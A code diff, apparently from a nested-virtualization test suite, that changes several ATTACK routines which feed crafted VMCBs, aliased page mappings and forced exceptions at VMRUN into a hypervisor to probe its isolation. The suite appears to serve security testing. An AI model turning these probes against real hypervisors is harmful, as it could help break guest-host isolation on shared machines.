@@ -91,7 +91,7 @@ ATTACK(stale_task_register) {
     memcpy(other, l2->vmcb, PAGE);
     l2->vmcb->tr = (struct segment){0};
     __asm__ volatile("vmload %0" : : "a"(other) : "memory");
-    ((stub_function *)(uintptr_t)stub)((uintptr_t)l2->vmcb, COM1_LSR);
+    HIGH((stub_function *)(uintptr_t)stub)((uintptr_t)l2->vmcb, COM1_LSR);
     print("\nexit=%x info1=%x\n", l2->vmcb->exit_code, l2->vmcb->exit_info_1);
 }
 
@@ -115,7 +115,7 @@ ATTACK(read_only_vmcb) {
     copy_to_read_only(l2->vmcb, (void *)0xe0000);
     *(volatile uint64_t *)0xe0070 = 0x5a5a;
     print("write_protected=%u\n", (uint64_t)(*(volatile uint64_t *)0xe0070 != 0x5a5a));
-    vm_enter(&l2->regs, 0xe0000);
+    HIGH(vm_enter)(&l2->regs, 0xe0000);
     print("\nended=1\n");
 }
 
@@ -128,7 +128,7 @@ ATTACK(addr32_vmrun) {
     l2->vmcb->intercept_1 &= ~INTERCEPT_IOIO;
     /* the registers that L2 gets from here are those of a C function: its own code sets them */
     L2_LOAD(l2, l2_secret);
-    ((stub_function *)(uintptr_t)stub_addr32)((uintptr_t)l2->vmcb | 0xdead00000000, COM1_LSR);
+    HIGH((stub_function *)(uintptr_t)stub_addr32)((uintptr_t)l2->vmcb | 0xdead00000000, COM1_LSR);
     print("\nended=1\n");
 }
 
@@ -138,15 +138,15 @@ ATTACK(aliased_vmrun) {
     enum { GENERAL_PROTECTION = 13, MISALIGNED = 8, N_CR3 = offsetof(struct vmcb, n_cr3) };
     extern uint8_t gp_handler[], gp_handler_end[];
     extern volatile uint8_t gp_scratch;
-    const uint64_t second = 4ull << 30;
+    const uint64_t second = 5ull << 30;
     uint64_t *pointers = pml4 + 512;
     uint8_t *code = memcpy(pages(1), stub, (size_t)(stub_end - stub)), *bad = pages(2);
     struct l2 *l2 = l2_new();
 
     l2_say(l2, "L2 begins\n");
-    pointers[4] = pointers[0];
+    pointers[second >> 30] = pointers[0];
     L2_LOAD(l2, l2_nothing);
-    ((stub_function *)(uintptr_t)code)((uintptr_t)l2->vmcb, COM1_LSR);
+    HIGH((stub_function *)(uintptr_t)code)((uintptr_t)l2->vmcb, COM1_LSR);
     out8(COM1_SCR, OWN_SCRATCH);
     *(uint64_t *)(bad + MISALIGNED + N_CR3) = l2->vmcb->n_cr3;
     trap_set(GENERAL_PROTECTION, (uintptr_t)memcpy(pages(1), gp_handler, (size_t)(gp_handler_end - gp_handler)));
@@ -157,7 +157,7 @@ ATTACK(aliased_vmrun) {
 static void map_in_l2(struct l2 *l2, uint64_t linear, uint64_t physical) {
     uint64_t *table = (uint64_t *)(l2->memory + L2_TABLES + 3 * PAGE);
 
-    table[linear / PAGE] = physical | 7;
+    table[linear % HIGH_ADDRESS / PAGE] = physical | 7;
 }
 
 static void set_idt_entry(struct l2 *l2, unsigned vector, uint64_t handler) {
@@ -176,7 +176,7 @@ ATTACK(exception_at_vmrun) {
     enum { INVALID_OPCODE = 6, UD2 = 0x0b0f };
     extern const uint8_t vm_enter_vmrun[];
     struct l2 *l2 = l2_new();
-    uint64_t at = (uintptr_t)vm_enter_vmrun, root = (uintptr_t)pml4;
+    uint64_t at = (uintptr_t)HIGH(vm_enter_vmrun), root = (uintptr_t)pml4;
     uint64_t page = L2_DATA + 0x8000;
 
     l2_say(l2, "L2 begins\n");
@@ -221,7 +221,7 @@ static uint64_t run_stubs(struct l2 *l2, uint8_t *code, uint64_t *tries, uint64_
     L2_LOAD(l2, l2_pause);
     for (i = 0; i < *tries && chances < wanted; i++) {
         l2->vmcb->rip = L2_CODE;
-        foreign += ((stub_function *)(uintptr_t)(code + i * STUB_STEP))((uintptr_t)l2->vmcb, 0x80) != OWN_SCRATCH;
+        foreign += HIGH((stub_function *)(uintptr_t)(code + i * STUB_STEP))((uintptr_t)l2->vmcb, 0x80) != OWN_SCRATCH;
         while (!(in8(COM1_LSR) & 0x20))
             ;
     }
